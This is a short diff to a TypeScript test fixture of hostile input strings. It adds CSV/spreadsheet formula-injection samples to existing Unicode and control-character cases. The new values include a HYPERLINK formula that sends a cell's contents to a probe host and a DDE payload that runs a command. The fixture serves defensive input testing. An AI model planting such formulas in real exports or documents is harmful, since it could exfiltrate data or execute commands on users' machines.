@@ -24,6 +24,10 @@ export const HOSTILE_STRINGS: Record<string, string> = {
   zeroWidth: "pro\u200B\u2060\uFEFF\u00AD plan",
   controls: "line\nbreak\r\ttab\u0007bell\u0085next\u2028sep",
   emojiAndRtl: "👨‍👩‍👧 عربي עברית",
+  formulaLink: `=HYPERLINK("https://${PROBE_HOST}/?"&A1,"open")`,
+  formulaDde: "@SUM(1+1)*cmd|' /C calc'!A0",
+  formulaMinus: "-1+1",
+  formulaPlus: "+2+3",
 };
 
 /** A 32 KB value with markup at both ends: fits a property value, not a tag. */
